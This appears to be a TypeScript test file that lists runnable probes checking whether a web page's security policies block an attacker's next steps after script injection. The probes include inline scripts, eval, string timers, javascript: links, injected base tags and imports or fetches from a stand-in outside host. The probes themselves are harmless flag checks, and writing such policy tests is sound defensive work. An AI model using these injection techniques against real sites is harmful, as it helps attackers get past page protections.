/**
 * Next steps of an attacker who can run a line inside the page. Each probe tries one and answers true when it worked.
 * They run as code of the page, not through the debugger, to which the policies do not apply.
 */
export const probes: Readonly<Record<string, string>> = {
  'markup by innerHTML': "document.createElement('p').innerHTML = '<b>x</b>'; return true;",
  'a frame by srcdoc':
    "const f = document.createElement('iframe'); const loaded = new Promise((r) => { f.onload = r; }); f.srcdoc = '<script>parent.hit = 1</script>'; document.body.append(f); await loaded; return window.hit === 1;",
  'a script by address':
    "const s = document.createElement('script'); s.src = '/assets/nowhere.js'; document.body.append(s); return true;",
  'a script by text':
    "const s = document.createElement('script'); s.text = 'window.hit2 = 1'; document.body.append(s); return window.hit2 === 1;",
  'a script by node':
    "const s = document.createElement('script'); s.append(document.createTextNode('window.hit3 = 1')); document.body.append(s); return window.hit3 === 1;",
  // Timers of the same delay end in their order.
  'a timer with a string':
    "setTimeout('window.hit4 = 1', 0); await new Promise((r) => setTimeout(r, 0)); return window.hit4 === 1;",
  eval: "return eval('1') === 1;",
  'new Function': "return new Function('return 1')() === 1;",
  'a Trusted Types policy': "trustedTypes.createPolicy('default', { createHTML: (x) => x }); return true;",
  'import of another origin': "await import('https://elsewhere.example/x.js'); return true;",
  'import of a data: address': "await import('data:text/javascript,window.hit5 = 1'); return true;",
  'import of a blob: address':
    "await import(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))); return true;",
  'import of a file that is not in the release': "await import('/google/start?module'); return true;",
  'a second import map':
    "const s = document.createElement('script'); s.type = 'importmap'; s.append(document.createTextNode('{\"imports\":{\"probe\":\"data:text/javascript,1\"}}')); document.head.append(s); await import('probe'); return true;",
  'an on… attribute':
    "const b = document.createElement('button'); b.setAttribute('onclick', 'window.hit6 = 1'); document.body.append(b); b.click(); return window.hit6 === 1;",
  'a style attribute':
    "const p = document.createElement('p'); p.setAttribute('style', 'color: rgb(1, 2, 3)'); document.body.append(p); return getComputedStyle(p).color === 'rgb(1, 2, 3)';",
  'a style element':
    "const s = document.createElement('style'); s.append(document.createTextNode('p { color: rgb(1, 2, 3) }')); document.head.append(s); const p = document.createElement('p'); document.body.append(p); return getComputedStyle(p).color === 'rgb(1, 2, 3)';",
  'a javascript: link':
    "const a = document.createElement('a'); a.href = 'javascript:window.hit7=1'; document.body.append(a); return new Promise((r) => { Object.defineProperty(window, 'hit7', { set: () => r(true) }); document.addEventListener('securitypolicyviolation', (v) => v.sample.includes('hit7') && r(false)); a.click(); });",
  'a base address':
    "const b = document.createElement('base'); b.href = 'https://elsewhere.example/'; document.head.append(b); return document.baseURI.startsWith('https://elsewhere');",
  'a call to another origin': "await fetch('https://elsewhere.example/', { mode: 'no-cors' }); return true;",
  'a worker from a blob':
    "const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return new Promise((r) => { w.onmessage = () => r(true); w.onerror = () => r(false); });",
};

/** Code that runs every probe once the page runs it, and puts the outcomes into `window.probed`. */
export const probingCode = (): string => `
const tried = {};
const probes = {${Object.entries(probes)
  .map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`)
  .join(',\n')}};
for (const [name, probe] of Object.entries(probes)) {
  try { tried[name] = (await probe()) ? 'worked' : 'blocked'; } catch { tried[name] = 'blocked'; }
}
window.probed = tried;
`;
